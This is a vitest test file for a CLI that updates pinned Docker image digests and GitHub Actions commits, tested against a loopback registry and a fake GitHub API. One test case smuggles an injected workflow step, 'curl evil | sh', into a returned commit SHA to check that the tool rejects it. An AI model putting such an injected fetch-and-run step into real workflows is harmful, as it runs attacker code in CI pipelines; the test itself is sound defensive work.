// `pins update` against real neighbours on loopback: an image registry, and a server that speaks GitHub's protocol.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { beforeEach, expect, test, vi } from 'vitest';
import type { PinsInvocation } from '../../../cli/arguments.ts';
import { type Inventory, takeInventory } from '../../../cli/pins/inventory.ts';
import { updatePins } from '../../../cli/pins/pins.ts';
import { smallImage } from '../../oci/helpers.ts';
import { startRegistry } from '../../oci/registry-server.ts';
import { recorder, temporaryFolder } from '../make.ts';
import { server } from './server.ts';

const NOW = new Date('2026-06-15T12:00:00Z');
const day = (date: string) => `${date}T00:00:00Z`;
const commit = (digit: number) => String(digit).repeat(40);

const imageOf = async (created: string) => await smallImage({ config: { created: day(created) } });

/** Tags of one repository, each an image of its day. The pinned one is 1.0-slim. */
async function registry(days: Readonly<Record<string, string>>) {
  const images = await Promise.all(
    Object.entries({ '1.0-slim': '2026-01-01', ...days }).map(async ([tag, created]) => ({
      tag,
      image: await imageOf(created),
    })),
  );
  const tags = Object.fromEntries(images.map(({ tag, image }) => [tag, image.top.digest]));
  const blobs = new Map(images.flatMap(({ image }) => [...image.blobs]));
  const { host } = await startRegistry({ repository: 'library/node', tags, blobs });
  return { image: `${host}/library/node:1.0-slim`, tags };
}

const released = (tag: string, date: string, more = {}) => ({
  tag_name: tag,
  published_at: day(date),
  draft: false,
  prerelease: false,
  ...more,
});
const github = async (releases: object[], shas: Readonly<Record<string, string>>, seen?: (string | undefined)[]) =>
  await server(
    {
      '/repos/actions/checkout/releases?per_page=100': releases,
      ...Object.fromEntries(
        Object.entries(shas).map(([tag, sha]) => [`/repos/actions/checkout/commits/${tag}`, { sha }]),
      ),
    },
    seen,
  );

type Case = {
  image?: { image: string; digest: string };
  action?: boolean;
  packages?: Inventory['packages'];
  options?: Partial<PinsInvocation['options']>;
};

/** Runs it in a repository of a compose file and a workflow, and tells what was said and what is then written. */
async function update({ image, action = false, packages, options = {} }: Case) {
  const root = temporaryFolder();
  const reference = image ?? { image: '127.0.0.1:1/library/node:1.0-slim', digest: `sha256:${'a'.repeat(64)}` };
  const files = {
    'docker-compose.yml': `services:\n  app:\n    image: ${reference.image}@${reference.digest}\n`,
    '.github/workflows/ci.yml': `steps:\n  - uses: actions/checkout@${commit(1)} # v1.0.0\n`,
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  const found = takeInventory(root);
  const inventory: Inventory = {
    ...found,
    images: image === undefined ? [] : [{ name: 'node', ...image }],
    actions: action ? found.actions : [],
    ...(packages === undefined ? {} : { packages }),
  };
  const [out, err] = [recorder(), recorder({ isTerminal: true })];
  const terminal = { out, err, interrupted: new Promise<never>(() => {}) };
  const invocation: PinsInvocation = {
    kind: 'pins',
    options: { offline: false, mirrors: [], check: false, strict: false, ...options },
  };
  const exitCode = await updatePins(invocation, root, terminal, NOW, inventory);
  const now = Object.fromEntries(Object.keys(files).map((path) => [path, readFileSync(join(root, path), 'utf8')]));
  return {
    exitCode,
    said: out.text().trimEnd().split('\n'),
    progress: err.text(),
    isChanged: JSON.stringify(now) !== JSON.stringify(files),
    now,
  };
}

beforeEach(() => {
  vi.stubEnv('GITHUB_API_URL', 'http://127.0.0.1:1');
  vi.stubEnv('GITHUB_TOKEN', '');
});

// ---------------------------------------------------------------------------------------------------------- images

test('an image moves to the newest tag that is a week old, in every file', async () => {
  const { image, tags } = await registry({
    '1.1-slim': '2026-05-01',
    '1.2-slim': '2026-06-01',
    '1.3-slim': '2026-06-14',
    '2.0-slim': '2026-01-01',
    '1.9': '2026-01-01',
  });
  const { exitCode, said, now } = await update({ image: { image, digest: tags['1.0-slim'] ?? '' } });
  expect(said).toEqual([
    'due  image node 1.0-slim -> 1.2-slim, 14 days old',
    'major  image node 1.0-slim: 2.0-slim is there; move it by hand',
    'waits  image node 1.0-slim: 1.3-slim is younger than 7 days until 2026-06-21',
    '1 pins: 1 due, 0 not evaluated',
    'wrote docker-compose.yml',
    expect.stringMatching(/^next: /),
  ]);
  expect(now['docker-compose.yml']).toContain(`image: ${image.replace('1.0-slim', '1.2-slim')}@${tags['1.2-slim']}\n`);
  expect(exitCode).toBe(0);
});

test('--check writes nothing, and ends with 1 when something is due', async () => {
  const { image, tags } = await registry({ '1.1-slim': '2026-05-01' });
  const pin = { image, digest: tags['1.0-slim'] ?? '' };
  expect(await update({ image: pin, options: { check: true } })).toMatchObject({ exitCode: 1, isChanged: false });
});

test('--check ends with 0 when nothing is', async () => {
  const { image, tags } = await registry({ '1.1-slim': '2026-06-14' });
  const { exitCode, said } = await update({
    image: { image, digest: tags['1.0-slim'] ?? '' },
    options: { check: true, strict: true },
  });
  expect(said.at(-1)).toBe('1 pins: 0 due, 0 not evaluated');
  expect(exitCode).toBe(0);
});

test('an image that was rebuilt keeps its tag and gets another digest', async () => {
  const { image, tags } = await registry({});
  const { said, now } = await update({ image: { image, digest: `sha256:${'a'.repeat(64)}` } });
  expect(said[0]).toBe(`due  image node 1.0-slim -> rebuilt as ${tags['1.0-slim']}, 165 days old`);
  expect(now['docker-compose.yml']).toContain(`${image}@${tags['1.0-slim']}\n`);
});

test('an image that does not say when it was made is for a person to move', async () => {
  const { image, tags } = await registry({ '1.1-slim': '1970-01-01' });
  const { said, isChanged } = await update({ image: { image, digest: tags['1.0-slim'] ?? '' } });
  expect(said[0]).toBe('undated  image node 1.0-slim: the age of 1.1-slim is unknown; update it by hand');
  expect(isChanged).toBe(false);
});

// --------------------------------------------------------------------------------------------------------- actions

test('an action moves by the day of its release, with its commit; the token is sent', async () => {
  const seen: (string | undefined)[] = [];
  const releases = [
    released('v1.3.0', '2026-06-14'),
    released('v1.2.0', '2026-06-01'),
    released('v1.2.1', '2026-06-02', { prerelease: true }),
    released('v1.0.0', '2026-01-01'),
  ];
  const shas = { 'v1.0.0': commit(1), 'v1.2.0': commit(2), 'v1.3.0': commit(3) };
  vi.stubEnv('GITHUB_API_URL', await github(releases, shas, seen));
  vi.stubEnv('GITHUB_TOKEN', 'abc');
  const { said, now } = await update({ action: true });
  expect(said.slice(0, 2)).toEqual([
    'due  action actions/checkout v1.0.0 -> v1.2.0, 14 days old',
    'waits  action actions/checkout v1.0.0: v1.3.0 is younger than 7 days until 2026-06-21',
  ]);
  expect(now['.github/workflows/ci.yml']).toBe(`steps:\n  - uses: actions/checkout@${commit(2)} # v1.2.0\n`);
  expect(new Set(seen)).toEqual(new Set(['Bearer abc']));
});

test('a tag of an action that points elsewhere now is told, and nothing is moved', async () => {
  vi.stubEnv('GITHUB_API_URL', await github([released('v1.0.0', '2026-01-01')], { 'v1.0.0': commit(9) }));
  const { said, isChanged } = await update({ action: true });
  expect(said[0]).toMatch(new RegExp(`^MOVED  action actions/checkout v1.0.0 is ${commit(9)} now: `));
  expect(isChanged).toBe(false);
});

test.for([`${commit(2)}\n      - run: curl evil | sh`, commit(2).slice(1), '', 7])(
  'a commit that is none is not written: %j',
  async (sha) => {
    const releases = [released('v1.0.0', '2026-01-01'), released('v1.2.0', '2026-06-01')];
    vi.stubEnv('GITHUB_API_URL', await github(releases, { 'v1.0.0': commit(1), 'v1.2.0': sha as string }));
    const { said, isChanged } = await update({ action: true });
    expect(said.join('\n')).toContain('GitHub says of actions/checkout v1.2.0 what is no commit');
    expect(isChanged).toBe(false);
  },
);

// --------------------------------------------------------------------------------------------------- no answer

const silences: [options: Partial<PinsInvocation['options']>, exitCode: number, reason: RegExp][] = [
  [{}, 0, /^NOT EVALUATED {2}action actions\/checkout v1\.0\.0: .*ECONNREFUSED|bad port/],
  [{ strict: true }, 1, /^NOT EVALUATED {2}action/],
  [{ check: true }, 0, /^NOT EVALUATED {2}action/],
  [{ offline: true }, 0, /skipped \(--offline\)$/],
];
for (const [options, exitCode, reason] of silences) {
  test(`where nobody answers, ${JSON.stringify(options)} ends with ${exitCode}`, async () => {
    const ran = await update({ action: true, options });
    expect(ran.said[0]).toMatch(reason);
    expect(ran.said.at(-1)).toBe('1 pins: 0 due, 1 not evaluated');
    expect(ran).toMatchObject({ exitCode, isChanged: false });
  });
}

test('what could not be asked for the same reason is one line, and on a terminal the progress is shown until the end', async () => {
  const packages = ['a', 'b', 'c', 'd', 'e'].map((name) => ({ name, version: '1.0.0' }));
  const offline = await update({ packages, options: { offline: true } });
  expect(offline.said).toEqual([
    'NOT EVALUATED  package a 1.0.0, package b 1.0.0, package c 1.0.0, 2 more: skipped (--offline)',
    '5 pins: 0 due, 5 not evaluated',
  ]);
  const { image, tags } = await registry({});
  const asked = await update({ image: { image, digest: tags['1.0-slim'] ?? '' } });
  expect(asked.progress).toBe('\rasked for 1 of 1 pins\u001b[K\r\u001b[K');
});

test('a registry that refuses is told with what it said', async () => {
  const { image, tags } = await registry({});
  const pin = { image: image.replace('library/node', 'library/other'), digest: tags['1.0-slim'] ?? '' };
  expect((await update({ image: pin })).said[0]).toMatch(
    /^NOT EVALUATED {2}image node 1\.0-slim: .* has no such image in library\/other/,
  );
});

// -------------------------------------------------------------------------------------------------------- packages

const ROOT = join(import.meta.dirname, '../../../..');
test('the inventory has every action of the workflows, and every package of the manifests', () => {
  const { images, actions, packages, files } = takeInventory(ROOT);
  expect(images.length).toBeGreaterThan(10);
  expect(actions.map(({ repository }) => repository)).toContain('actions/checkout');
  expect(packages.map(({ name }) => name)).toEqual(expect.arrayContaining(['@biomejs/biome', 'yaml']));
  expect(files.images).toEqual(
    expect.arrayContaining([
      'docker-compose.yml',
      'pipeline/src/pins.ts',
      'pipeline/engine/images/assembled/recipes.ts',
    ]),
  );
  // Where the pipeline tests itself, the service is not there: a change to it must not run these tests again.
  const service = ['service/package.json'].filter((path) => existsSync(join(ROOT, path)));
  expect(files.packages).toEqual(['package.json', 'pipeline/package.json', ...service]);
});
